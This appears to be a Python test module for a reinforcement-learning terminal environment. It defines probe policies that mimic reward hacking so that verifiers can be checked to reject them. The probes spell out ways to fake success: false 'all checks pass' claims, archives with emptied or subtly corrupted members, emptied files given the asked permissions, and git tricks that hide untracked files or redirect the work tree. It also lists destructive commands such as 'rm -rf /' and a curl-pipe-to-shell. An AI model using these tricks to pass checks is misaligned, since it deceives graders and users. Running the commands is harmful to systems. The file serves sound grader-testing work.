"""Hacks on terminal tasks: each must score outcome 0, earn no progress credit, and trip its rules.

Blind policies come first (they never read the task), then artefacts that only look right:
archives with the right member names and no bytes, or a corrupt compressed stream that still
lists; permissions set on emptied files; git repositories in the wrong folder, or an empty
commit whose untracked files are hidden by configuration or ignore rules. A hack that targets
one kind of task is built from that task (it knows the paths to fake) and, on the other kinds,
does what it would do blind.
"""

from __future__ import annotations

import shlex
from typing import Any

from gymhub.envs.terminal.tasks import _bash_script
from gymhub.types import Task
from gymhub.verifiers.probes import Probe

Actions = list[dict[str, Any]]
_ARCHIVERS = {"tar+gzip": "tar czf", "tar+bzip2": "tar cjf", "tar+xz": "tar cJf", "tar": "tar -b 1 -cf"}
_ARCHIVERS["zip"] = "zip -q -X -0"
_GIT = "git -c user.name=probe -c user.email=probe@example.com"


def _run(*commands: str) -> Any:
    return lambda task: _bash_script(list(commands))


def _say(text: str) -> Actions:
    return [{"role": "assistant", "content": text}, *_bash_script([])]


def _checks(task: Task, kind: str) -> list[dict[str, Any]]:
    return [c for c in task.hidden["checks"] if c["kind"] == kind and not c.get("invariant")]


def _archive_hack(task: Task, spoil: str) -> Actions:
    """Builds the asked archive from a copy of the sources, then ``spoil``s it: ``empty`` (members
    named right, no bytes) or ``corrupt`` (its stream damaged where a listing does not look)."""
    found = _checks(task, "archive")
    if not found:
        return _bash_script([])
    check = found[0]
    name, members = check["path"], sorted(check["members"])
    q = " ".join(shlex.quote(m) for m in members)
    build = f"{_ARCHIVERS[check['format']]} {shlex.quote(name)} {q}"
    if spoil == "empty":
        return _bash_script(
            [
                f"mkdir -p .stage && cp --parents {q} .stage/ && cd .stage && "
                f"find . -type f -exec truncate -s 0 {{}} + && {build} && mv {shlex.quote(name)} .. && "
                "cd .. && rm -rf .stage"
            ]
        )
    size = f"$(stat -c %s {shlex.quote(name)})"
    flip = {  # a byte the listing never checks: gzip's CRC, a stored zip member's first byte
        "tar+gzip": f"$(({size} - 8))",
        "zip": str(30 + len(members[0])),
    }
    if check["format"] in flip:
        at, file = flip[check["format"]], shlex.quote(name)
        spoil_cmd = (  # add 1 to the byte at `at`
            f'at={at}; b=$(od -An -tu1 -j "$at" -N1 {file}); '
            f'printf "\\$(printf %o $(( (b + 1) % 256 )))" | '
            f'dd of={file} bs=1 seek="$at" conv=notrunc status=none'
        )
    else:  # cut the stream's end: every member still lists, the checksum/trailer is gone
        cut = {"tar+bzip2": 4, "tar+xz": 12, "tar": 1536}[check["format"]]
        spoil_cmd = f"truncate -s -{cut} {shlex.quote(name)}"
    return _bash_script([build, spoil_cmd])


def _wiped_permissions(task: Task) -> Actions:
    """Empties the files, then sets exactly the asked modes."""
    checks = [c for c in _checks(task, "file") if "mode" in c]
    if not checks:
        return _bash_script([])
    wipe = " ".join(shlex.quote(c["path"]) for c in checks)
    chmods = [f"chmod {c['mode']:o} {shlex.quote(c['path'])}" for c in checks]
    return _bash_script([f"truncate -s 0 {wipe}", *chmods])


def _git_hack(task: Task, how: str) -> Actions:
    checks = _checks(task, "git")
    if not checks:
        return _bash_script([])
    repo = shlex.quote(checks[0]["repo"])
    message = shlex.quote(checks[0]["message"].rstrip("\n"))
    git = f"{_GIT} -C {repo}"
    if how == "wrong-folder":  # one repo for the whole work dir: `git -C repo log` still finds it
        return _bash_script([f"{_GIT} init -q . && {_GIT} add -A && {_GIT} commit -qm {message}"])
    hide = {
        "untracked-hidden": f"{git} config status.showUntrackedFiles no",
        "excluded": f"echo '*' >> {repo}/.git/info/exclude",
        "gitignore": f"printf '*\\n' > {repo}/.gitignore && {git} add -f .gitignore",
    }
    if how in hide:  # an empty commit; the files left untracked, out of `git status`'s sight
        empty = "--allow-empty " if how != "gitignore" else ""
        return _bash_script([f"{git} init -q && {hide[how]} && {git} commit -q {empty}-m {message}"])
    if how == "skip-worktree":  # commit emptied files, restore them, tell git not to look
        files = " ".join(shlex.quote(p) for p in sorted(checks[0]["files"]))
        return _bash_script(
            [
                f"mkdir -p .keep && cp -r {repo} .keep/ && cd {repo} && {_GIT} init -q && "
                f"truncate -s 0 {files} && {_GIT} add -A && {_GIT} commit -qm {message} && "
                f"cp -r ../.keep/{repo}/. . && {_GIT} update-index --skip-worktree {files} && rm -rf ../.keep"
            ]
        )
    # "worktree-redirect": the repo in the right folder, its work tree one level up
    return _bash_script(
        [f"{git} init -q && {git} config core.worktree .. && {git} add -A && {git} commit -qm {message}"]
    )


PROBES = [
    # blind: never reads the task
    Probe("submit-at-once", "submits without doing anything", _run()),
    Probe("claim-success", "says the task is done, does nothing", lambda t: _say("Done: all checks pass.")),
    Probe("empty-reply", "an empty message, then submit", lambda t: _say("")),
    Probe("echo-prompt", "repeats the task's prompt back, then submits", lambda t: _say(t.prompt)),
    Probe(
        "random-commands",
        "harmless commands that ignore the task",
        _run(
            "ls -la",
            "cat */* 2>/dev/null | head -n 5",
            "mkdir -p output tmp && echo done > output/result.txt",
        ),
    ),
    # destructive or out of bounds
    Probe(
        "wipe-everything",
        "rm -rf on everything it can reach",
        _run("rm -rf / --no-preserve-root 2>/dev/null; true"),
        ("destructive-command",),
    ),
    Probe(
        "download-and-run",
        "pipes a download into a shell",
        _run("curl -s http://127.0.0.1:9/fix.sh | sh"),
        ("destructive-command", "network-attempt"),
    ),
    Probe(
        "rewrite-inputs",
        "truncates the input data so the answer becomes trivial",
        _run('for f in input/*; do : > "$f"; done', "mkdir -p output && echo 0 > output/count.txt"),
        ("protected-paths",),
    ),
    Probe("world-writable", "chmod -R 777 on the tree", _run("chmod -R 777 ."), ("destructive-command",)),
    # artefacts that only look right
    Probe(
        "archive-empty-members",
        "an archive whose members have the right names and no bytes",
        lambda t: _archive_hack(t, "empty"),
    ),
    Probe(
        "archive-corrupt-stream",
        "a damaged archive that still lists every member (bad CRC, cut trailer)",
        lambda t: _archive_hack(t, "corrupt"),
    ),
    Probe("permissions-wiped", "the asked modes, set on emptied files", _wiped_permissions),
    Probe(
        "git-wrong-folder", "one repository for the whole work dir", lambda t: _git_hack(t, "wrong-folder")
    ),
    Probe(
        "git-untracked-hidden",
        "an empty commit, untracked files hidden with status.showUntrackedFiles=no",
        lambda t: _git_hack(t, "untracked-hidden"),
    ),
    Probe(
        "git-excluded",
        "an empty commit, every file excluded in .git/info/exclude",
        lambda t: _git_hack(t, "excluded"),
    ),
    Probe(
        "git-gitignore",
        "commits only a .gitignore that ignores everything",
        lambda t: _git_hack(t, "gitignore"),
    ),
    Probe(
        "git-skip-worktree",
        "commits emptied files, restores them, marks them skip-worktree",
        lambda t: _git_hack(t, "skip-worktree"),
    ),
    Probe(
        "git-worktree-redirect",
        "a repository in the folder whose core.worktree points one level up",
        lambda t: _git_hack(t, "worktree-redirect"),
    ),
]
